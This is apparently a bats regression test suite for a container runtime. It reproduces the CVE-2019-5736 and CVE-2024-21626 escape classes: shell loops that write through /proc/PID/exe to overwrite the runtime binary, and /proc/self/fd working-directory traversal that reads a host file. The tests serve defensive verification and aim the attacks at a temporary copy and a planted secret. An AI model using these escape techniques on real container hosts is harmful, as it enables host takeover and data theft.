@@ -1,0 +1,378 @@
+#!/usr/bin/env bats
+# security: the container is hostile.  Each test attacks one guarantee of the
+# README's Security section the way the public exploits did, and fails on the
+# code before the fix (see the report of each class below).  A successful
+# "escape" here is harmless: it lands in a file of the test's temp dir, in a
+# copy of the runtime binary, or in a namespaced setting of the container.
+load helpers
+load environment
+
+setup() {
+  setup_common
+  PIDS=()
+  REAL_OCIRUN=$OCIRUN
+}
+
+teardown() {
+  local p
+  for p in "${PIDS[@]}"; do
+    kill -9 "$p" 2>/dev/null || true
+  done
+  # the attacks may have corrupted the copy: clean up with the real binary
+  OCIRUN=$REAL_OCIRUN
+  teardown_common
+}
+
+require_root() {
+  [ "$(id -u)" -eq 0 ] || skip "needs root (the attacks run as root in the container)"
+}
+
+# use_copy: run the runtime from a copy in the test's temp dir (an escape
+# overwrites the copy, not the build); sets COPY and COPY_SUM.
+use_copy() {
+  COPY="$TEST_TMP/ocirun-copy"
+  cp "$REAL_OCIRUN" "$COPY"
+  chmod 755 "$COPY"
+  COPY_SUM=$(sha256sum < "$COPY")
+  OCIRUN=$COPY
+}
+
+assert_copy_intact() {
+  local now
+  now=$(sha256sum < "$COPY")
+  if [ "$now" != "$COPY_SUM" ]; then
+    echo "the runtime binary was written from the container: $(head -c 64 "$COPY" | tr -c '[:print:]' .)" >&2
+    return 1
+  fi
+}
+
+# track PID: killed (SIGKILL) in teardown
+track() {
+  [[ "$1" =~ ^[0-9]+$ ]] && [ "$1" -gt 1 ] || { echo "track: bad pid '$1'" >&2; return 1; }
+  PIDS+=("$1")
+}
+
+# set_script SCRIPT: process.args = sh -c SCRIPT
+set_script() {
+  set_config ".process.args = $(jq -n -c --arg s "$1" '["sh", "-c", $s]')"
+}
+
+# second_bundle DIR: another bundle with the same rootfs and config
+second_bundle() {
+  mkdir -p "$1"
+  cp -a "$BUNDLE/rootfs" "$1/rootfs"
+  cp "$BUNDLE/config.json" "$1/config.json"
+}
+
+# add_runtime_libs ROOTFS: the shared libraries the runtime needs (an image
+# with glibc: the runtime can run in it)
+add_runtime_libs() {
+  local l
+  for l in $(ldd "$REAL_OCIRUN" | grep -o '/[^ ]*'); do
+    cp -L --parents "$l" "$1"
+  done
+}
+
+# wait_for_file FILE PATTERN [TENTHS]: until FILE has a line matching PATTERN
+wait_for_file() {
+  local i
+  for i in $(seq "${3:-150}"); do
+    grep -qE "$2" "$1" 2>/dev/null && return 0
+    sleep 0.1
+  done
+  return 1
+}
+
+# ---------------------------------------------------------------------------
+# CVE-2019-5736 class: the runtime binary is not writable from a container.
+
+# A busybox sh loop: write through fd 3 (a handle on some /proc/PID/exe)
+# once nothing executes the file any more (ETXTBSY: retried for ~10 s).
+# Prints WROTE, or why the write was refused.
+WRITE_FD3='i=0
+while [ $i -lt 1000 ]; do
+  err=$( { echo PWNED-BY-CONTAINER > /proc/self/fd/3; } 2>&1 ) && { echo WROTE; exit 0; }
+  case "$err" in
+    *busy*) ;;
+    *) echo "refused: $err"; exit 0 ;;
+  esac
+  i=$((i + 1)); usleep 10000
+done
+echo refused: always busy'
+
+@test "CVE-2019-5736: a process exec'd into a created container cannot write the runtime through /proc/1/exe" {
+  require_root
+  use_copy
+  set_args sleep 1000
+  run_bg create --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ]
+  # pid 1 of the container is the runtime waiting for `start`
+  ocirun_bg exec --detach --pid-file "$TEST_TMP/attacker.pid" "$ID" sh -c '
+    exec > /tmp/attack.log 2>&1
+    command exec 3</proc/1/exe || { echo cannot-open; exit 0; }
+    echo opened
+    '"$WRITE_FD3"
+  track "$(cat "$TEST_TMP/attacker.pid")"
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" . || true
+  run_bg start "$ID"
+  [ "$status" -eq 0 ]
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|cannot' || true
+  cat "$BUNDLE/rootfs/tmp/attack.log"
+  grep -qE 'WROTE|refused|cannot' "$BUNDLE/rootfs/tmp/attack.log"
+  assert_copy_intact
+}
+
+@test "CVE-2019-5736: an entrypoint whose interpreter is #!/proc/self/exe gives a pod neighbour no writable runtime" {
+  require_root
+  use_copy
+  # container A, the attacker: finds the runtime running as B's entrypoint
+  # in the pid namespace they share, keeps a handle on its exe, lets it go
+  # on (it waits on opening its --log, a fifo of B's image), and writes once
+  # it has exited
+  cat > "$BUNDLE/rootfs/attack.sh" <<ATTACK
+exec > /tmp/attack.log 2>&1
+n=0
+while [ \$n -lt 3000 ]; do
+  for d in /proc/[0-9]*; do
+    a=; { read -r a < \$d/cmdline; } 2>/dev/null
+    case "\$a" in
+      /proc/self/exe--log=/fifo*) ;;
+      *) continue ;;
+    esac
+    echo "found \$d: \$a"
+    command exec 3<\$d/exe || { echo cannot-open; exit 0; }
+    echo "opened \$(readlink /proc/self/fd/3)"
+    command exec 4<\$d/root/fifo || echo cannot-release
+    cat <&4 >/dev/null &
+$WRITE_FD3
+  done
+  n=\$((n + 1)); usleep 10000
+done
+echo not-found
+ATTACK
+  set_args sh /attack.sh
+  run_bg run --detach --bundle "$BUNDLE" "$ID-a"
+  [ "$status" -eq 0 ]
+  apid=$(container_pid "$ID-a")
+  # container B joins A's pid namespace; its image has an entrypoint that
+  # runs whatever binary executes it
+  second_bundle "$TEST_TMP/b"
+  printf '#!/proc/self/exe --log=/fifo\n' > "$TEST_TMP/b/rootfs/evil"
+  chmod 755 "$TEST_TMP/b/rootfs/evil"
+  mkfifo "$TEST_TMP/b/rootfs/fifo"
+  add_runtime_libs "$TEST_TMP/b/rootfs"
+  BUNDLE="$TEST_TMP/b" set_config '.process.args = ["/evil"]
+    | .linux.namespaces |= map(if .type == "pid" then .path = "/proc/'"$apid"'/ns/pid" else . end)'
+  run_bg run --detach --bundle "$TEST_TMP/b" "$ID-b"
+  [ "$status" -eq 0 ]
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|cannot|not-found' || true
+  cat "$BUNDLE/rootfs/tmp/attack.log"
+  grep -q '^found' "$BUNDLE/rootfs/tmp/attack.log"
+  assert_copy_intact
+}
+
+# A busybox sh attacker for a container sharing the host's pid namespace: it
+# scans the host's processes for the runtime (argv[0] is $COPY: only this
+# test's), keeps a handle on the exe of the first one it may open (the host
+# file or a memfd copy), then writes through it.  It stops looking when
+# /tmp/stop appears.
+HOSTPID_ATTACK='exec > /tmp/attack.log 2>&1
+echo looking
+while [ ! -e /tmp/stop ]; do
+  for d in /proc/[0-9]*; do
+    a=; { read -r a < $d/cmdline; } 2>/dev/null
+    case "$a" in "$COPY"*) ;; *) continue ;; esac
+    { command exec 3<$d/exe; } 2>/dev/null || continue
+    t=$(readlink /proc/self/fd/3)
+    case "$t" in "$COPY"|/memfd:*) ;; *) exec 3<&-; continue ;; esac
+    echo "found $d: $a"
+    echo "opened $t"
+    '"$WRITE_FD3"'
+  done
+done
+echo not-found'
+
+# no_pid_ns: the config shares the host's pid namespace
+no_pid_ns() {
+  set_config '.linux.namespaces |= map(select(.type != "pid"))'
+}
+
+@test "CVE-2019-5736: a container in the host pid namespace cannot write the runtime through another container's waiting init" {
+  require_root
+  use_copy
+  no_pid_ns
+  set_config ".process.env += [\"COPY=$COPY\"]"
+  second_bundle "$TEST_TMP/v"
+  set_script "$HOSTPID_ATTACK"
+  run_bg run --detach --bundle "$BUNDLE" "$ID-a"
+  [ "$status" -eq 0 ]
+  track "$(container_pid "$ID-a")"
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" looking
+  # the victim: created, its init (the runtime) waits for start
+  BUNDLE="$TEST_TMP/v" set_args sleep 1000
+  run_bg create --bundle "$TEST_TMP/v" "$ID-v"
+  [ "$status" -eq 0 ]
+  sleep 1
+  run_bg start "$ID-v"
+  [ "$status" -eq 0 ]
+  touch "$BUNDLE/rootfs/tmp/stop"
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|not-found' || true
+  cat "$BUNDLE/rootfs/tmp/attack.log"
+  grep -qE 'WROTE|refused|not-found' "$BUNDLE/rootfs/tmp/attack.log"
+  assert_copy_intact
+}
+
+@test "CVE-2019-5736: a container in the host pid namespace cannot write the runtime through a concurrent exec (race)" {
+  require_root
+  use_copy
+  no_pid_ns
+  set_config ".process.env += [\"COPY=$COPY\"]"
+  set_script "$HOSTPID_ATTACK"
+  run_bg run --detach --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ]
+  track "$(container_pid "$ID")"
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" looking
+  for i in $(seq 200); do
+    ocirun exec "$ID" true </dev/null >/dev/null 2>&1 || true
+    grep -q '^found' "$BUNDLE/rootfs/tmp/attack.log" && break
+  done
+  echo "execs: $i"
+  touch "$BUNDLE/rootfs/tmp/stop"
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|not-found' || true
+  cat "$BUNDLE/rootfs/tmp/attack.log"
+  grep -qE 'WROTE|refused|not-found' "$BUNDLE/rootfs/tmp/attack.log"
+  assert_copy_intact
+}
+
+@test "CVE-2019-5736: with CAP_SYS_PTRACE, /proc/1/exe of a created container is a sealed copy, not the runtime's file" {
+  require_root
+  use_copy
+  # a process allowed to look at the waiting init despite its being
+  # non-dumpable: what it reaches must still not be the host's file
+  set_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
+  set_args sleep 1000
+  run_bg create --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ]
+  ocirun_bg exec --detach --pid-file "$TEST_TMP/attacker.pid" "$ID" sh -c '
+    exec > /tmp/attack.log 2>&1
+    command exec 3</proc/1/exe || { echo cannot-open; exit 0; }
+    echo "opened $(readlink /proc/self/fd/3)"
+    '"$WRITE_FD3"
+  track "$(cat "$TEST_TMP/attacker.pid")"
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" . || true
+  run_bg start "$ID"
+  [ "$status" -eq 0 ]
+  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|cannot' || true
+  cat "$BUNDLE/rootfs/tmp/attack.log"
+  grep -qE 'WROTE|refused|cannot' "$BUNDLE/rootfs/tmp/attack.log"
+  assert_copy_intact
+}
+
+# ---------------------------------------------------------------------------
+# CVE-2024-21626 class: no runtime fd or directory reaches the container.
+
+# make_secret: a host file the container must never read; sets SECRET
+# (its content) and SECRET_PATH
+make_secret() {
+  SECRET="host-secret-$RANDOM$RANDOM$RANDOM"
+  SECRET_PATH="$TEST_TMP/secret"
+  echo "$SECRET" > "$SECRET_PATH"
+  UP=$(printf '../%.0s' $(seq 30))
+}
+
+@test "CVE-2024-21626: exec --cwd /proc/self/fd/N never leads out of the container" {
+  require_root
+  make_secret
+  set_args sleep 1000
+  run_bg run --detach --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ]
+  leaked=
+  for n in $(seq 3 20); do
+    run ocirun exec --cwd "/proc/self/fd/$n" "$ID" cat "$UP${SECRET_PATH#/}"
+    echo "fd $n: status $status: $output"
+    [[ "$output" != *"$SECRET"* ]] || leaked+=" $n"
+  done
+  [ -z "$leaked" ] || { echo "the host secret leaked through fd$leaked" >&2; return 1; }
+}
+
+@test "CVE-2024-21626: process.cwd /proc/self/fd/N never leads out of the container" {
+  require_root
+  make_secret
+  leaked=
+  for n in $(seq 3 20); do
+    set_config ".process.cwd = \"/proc/self/fd/$n\""
+    set_args cat "$UP${SECRET_PATH#/}"
+    # whatever directory the runtime holds, and one its caller leaked
+    # (not passed with --preserve-fds)
+    run ocirun run --bundle "$BUNDLE" "$ID-$n" 15<"$TEST_TMP"
+    echo "fd $n: status $status: $output"
+    [[ "$output" != *"$SECRET"* ]] || leaked+=" $n"
+  done
+  [ -z "$leaked" ] || { echo "the host secret leaked through fd$leaked" >&2; return 1; }
+}
+
+# `ls /proc/self/fd` as a process sees it: its own directory fd is the
+# lowest free one, so a process with nothing but stdio (and N preserved fds)
+# lists 0 1 2 and then ls's own fd: "0 1 2 3" (N=0), "0 1 2 3 4" (N=1)
+expected_fds() {
+  seq 0 $((3 + ${1:-0})) | tr '\n' ' ' | sed 's/ $//'
+}
+LIST_FDS='echo $(ls /proc/self/fd)'
+
+@test "CVE-2024-21626: the container's process gets only stdio and --preserve-fds, whatever its caller leaks" {
+  require_root
+  set_script "$LIST_FDS"
+  # fd 3 is passed on purpose; 9 (a host directory) is a caller's leak
+  run ocirun run --preserve-fds 1 --bundle "$BUNDLE" "$ID" 3</dev/null 9<"$TEST_TMP"
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [ "${lines[-1]}" = "$(expected_fds 1)" ]
+}
+
+@test "CVE-2024-21626: an exec'd process gets only stdio and --preserve-fds, whatever its caller leaks" {
+  require_root
+  set_args sleep 1000
+  run_bg run --detach --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ]
+  run ocirun exec --preserve-fds 1 "$ID" sh -c "$LIST_FDS" 3</dev/null 9<"$TEST_TMP"
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [ "${lines[-1]}" = "$(expected_fds 1)" ]
+}
+
+# hook NAME SCRIPT: a hook object running /bin/sh -c SCRIPT NAME
+hook() {
+  jq -n -c --arg name "$1" --arg script "$2" '{path: "/bin/sh", args: ["sh", "-c", $script, $name]}'
+}
+
+@test "CVE-2024-21626: a createContainer hook (in the container's namespaces) gets no fd of the runtime or its caller" {
+  require_root
+  # the hook runs the host's /bin/sh before pivot_root: it can log to a host path
+  set_config ".hooks.createContainer = [$(hook createContainer "$LIST_FDS > $TEST_TMP/hook.fds")]"
+  set_args true
+  run ocirun run --bundle "$BUNDLE" "$ID" 9<"$TEST_TMP"
+  [ "$status" -eq 0 ]
+  cat "$TEST_TMP/hook.fds"
+  [ "$(cat "$TEST_TMP/hook.fds")" = "$(expected_fds)" ]
+}
+
+@test "CVE-2024-21626: a startContainer hook gets no fd of the runtime or its caller" {
+  require_root
+  set_config ".hooks.startContainer = [$(hook startContainer "$LIST_FDS > /hook.fds")]"
+  set_args true
+  run ocirun run --bundle "$BUNDLE" "$ID" 9<"$TEST_TMP"
+  [ "$status" -eq 0 ]
+  cat "$BUNDLE/rootfs/hook.fds"
+  [ "$(cat "$BUNDLE/rootfs/hook.fds")" = "$(expected_fds)" ]
+}
+
+@test "CVE-2024-21626: a process exec'd into a created container cannot reach the host through the waiting init's fds" {
+  require_root
+  make_secret
+  set_args sleep 1000
+  # the caller leaks a host directory to the runtime (fd 9, not preserved)
+  ocirun create --bundle "$BUNDLE" "$ID" </dev/null >>"$TEST_TMP/bg.out" 2>&1 9<"$TEST_TMP"
+  run ocirun exec "$ID" sh -c 'ls -l /proc/1/fd/ 2>&1; for f in /proc/1/fd/* /proc/1/cwd /proc/1/root; do cat "$f/secret" 2>/dev/null; done; true'
+  echo "$output"
+  [[ "$output" != *"$SECRET"* ]]
+}
